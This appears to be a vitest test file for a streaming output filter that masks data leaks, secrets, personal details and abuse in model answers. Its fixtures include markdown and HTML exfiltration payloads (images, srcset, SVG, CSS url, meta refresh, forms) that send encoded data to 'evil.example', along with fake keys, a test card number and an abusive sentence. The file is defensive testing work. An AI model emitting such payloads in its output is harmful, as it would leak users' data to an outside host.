import { describe, expect, it } from 'vitest';
import { createEngine } from '../engine.ts';
import { inspectOutputText, inspectText } from '../inspect-text.ts';
import { maskHits } from '../judge.ts';
import { loadModels } from '../model/load-models.ts';
import { defaultPolicy, type Policy } from '../policy/settings.ts';
import { holdBackMax, openScreen } from './screen.ts';

const engine = createEngine(loadModels());
const policy: Policy = { ...defaultPolicy, canaries: ['canary-7f3a'] };

const stream = (text: string, size: number, with_: Policy = policy) => {
  const screen = openScreen({ engine, policy: with_, onVerdict: () => {} });
  let out = '';
  let heldMost = 0;
  for (let at = 0; at < text.length; at += size) {
    out += screen.push(text.slice(at, at + size)).out;
    heldMost = Math.max(heldMost, Math.min(at + size, text.length) - out.length);
  }
  return { out: out + screen.end().out, heldMost };
};

const data = 'bGlzdGVuIHRvIHRoZSBzZWNyZXQgb2YgdGhlIGhvdXNl';
const evil = 'https://evil.example';
const alt = 'a picture of the sea '.repeat(13);
const leaks: readonly (readonly [string, string, RegExp])[] = [
  ['an image with data', `See ![x](${evil}/?d=${data}) there`, /bGlzdGVu/],
  ['an image with a long text', `See ![${alt}](${evil}/?d=${data}) there`, /bGlzdGVu/],
  ['a link with a long text', `See [${alt}](${evil}/?d=${data}) there`, /bGlzdGVu/],
  ['an image of HTML with other attributes', `<img alt="${alt}" src="${evil}/?d=${data}">`, /bGlzdGVu/],
  ['an image without a scheme', `See ![x](//evil.example/?d=${data}) there`, /bGlzdGVu/],
  ['a set of images', `<img srcset="${evil}/?d=${data} 2x">`, /bGlzdGVu/],
  ['an image of SVG', `<svg><image href='${evil}/?d=${data}'/></svg>`, /bGlzdGVu/],
  ['a style', `<p style="background:url(${evil}/?d=${data})">x</p>`, /bGlzdGVu/],
  ['a page that leads away', `<meta http-equiv=refresh content="0;url=${evil}/?d=${data}">`, /bGlzdGVu/],
  ['a link of HTML', `<a class="${alt}" href="${evil}/?d=${data}">x</a>`, /bGlzdGVu/],
  ['a form', `<form action=${evil}/?d=${data}><input name=x></form>`, /bGlzdGVu/],
  ['a token without a digit', 'Here: glpat-abcdefghijKLMNOPqrstuv, keep it', /KLMNOPqr/],
  ['letters alone', `See ![${alt}](${evil}/?d=${'secretwords'.repeat(6)}) there`, /secretwordssecret/],
  ['a key', `The key is sk-${'A1b2'.repeat(12)}, keep it`, /A1b2A1b2/],
  ['an address of mail', 'Write to ann.example@mail.example.org today', /ann\.example@/],
  ['a card', 'My card is 4111 1111 1111 1111, thanks', /1111 1111/],
  ['a canary', 'It says canary-7f3a at its end', /7f3a/],
];

describe('a stream', () => {
  it.each(leaks)(
    'lets %s through no more than a whole answer does, however it is cut',
    async (_what, text, leak) => {
      expect(text).toMatch(leak);
      expect(
        (await inspectOutputText(engine, text, [])).length + Number(text.includes('canary')),
      ).toBeGreaterThan(0);
      for (const size of [1, 3, 7, 40, 1000]) expect(stream(text, size).out, String(size)).not.toMatch(leak);
    },
  );

  it('says harmless text unchanged, and holds back no more than its bound', () => {
    const text = `The sea is blue; see [the page](https://docs.example.org/sea). ${'It has waves and 12 ships. '.repeat(40)}`;
    for (const size of [1, 5, 64]) {
      const { out, heldMost } = stream(text, size);
      expect(out).toBe(text);
      expect(heldMost).toBeLessThanOrEqual(holdBackMax + size);
    }
  });

  it('reports and changes nothing where the policy only reports', () => {
    for (const [, text] of leaks) expect(stream(text, 5, { ...policy, reportOnly: true }).out).toBe(text);
  });

  it('masks abuse where the policy masks it', () => {
    const text = 'You are a stupid worthless fucking bitch and I hate you, go and die. '.repeat(12);
    const { out } = stream(text, 20, { ...policy, toxicity: 'mask', toxicityThreshold: 0.5 });
    expect(out).toContain('[LINEAR_MODEL]');
  });
});

describe('masking', () => {
  it('hides the whole of hits that overlap in part', () => {
    const hit = (start: number, end: number) =>
      ({ kind: 'secret', type: 'key', score: 1, start, end, reason: '' }) as const;
    expect(maskHits('0123456789', [hit(2, 5), hit(4, 8)])).toBe('01[KEY]89');
    expect(maskHits('0123456789', [hit(2, 8), hit(3, 5)])).toBe('01[KEY]89');
  });
});

const mails = (count: number) => Array.from({ length: count }, (_, n) => `ann${n}@example.org`).join(' and ');

describe('a long text', () => {
  it.each([
    ['at once', 2000],
    ['in slices', 9000],
    ['past what is told one by one', 60_000],
  ])('is masked to its end, judged %s', async (_how, count) => {
    const text = `${mails(count)}, that is all`;
    const masked = maskHits(text, await inspectText(engine, text));
    expect(/.{0,40}ann\d/.exec(masked)?.[0]).toBeUndefined();
    expect(masked.startsWith('[EMAIL] and [EMAIL]')).toBe(true);
  });

  it('is masked where a private key lies across the border of two slices', async () => {
    const body = 'MIIEpAIBAAKCAQEAx7Qf/Zk2\n'.repeat(130);
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${body}-----END RSA PRIVATE KEY-----`;
    for (const before of [62_600, 63_800, 65_000]) {
      const text = `${'The sea is blue. '.repeat(5000).slice(0, before)}\n${key}\n${'It has waves. '.repeat(500)}`;
      const masked = maskHits(text, await inspectText(engine, text));
      expect(/.{0,40}(?:MIIEp|Zk2)/.exec(masked)?.[0], String(before)).toBeUndefined();
    }
  });
});

describe('a long answer', () => {
  it('is judged in slices that give way to other work', async () => {
    let turns = 0;
    const timer = setInterval(() => (turns += 1), 0);
    const text = `${'The sea is blue. '.repeat(40_000)} mail ann.example@mail.example.org`;
    const hits = await inspectOutputText(engine, text, []);
    clearInterval(timer);
    expect(turns).toBeGreaterThan(2);
    expect(hits.some(({ type, end }) => type === 'email' && end === text.length)).toBe(true);
  });
});
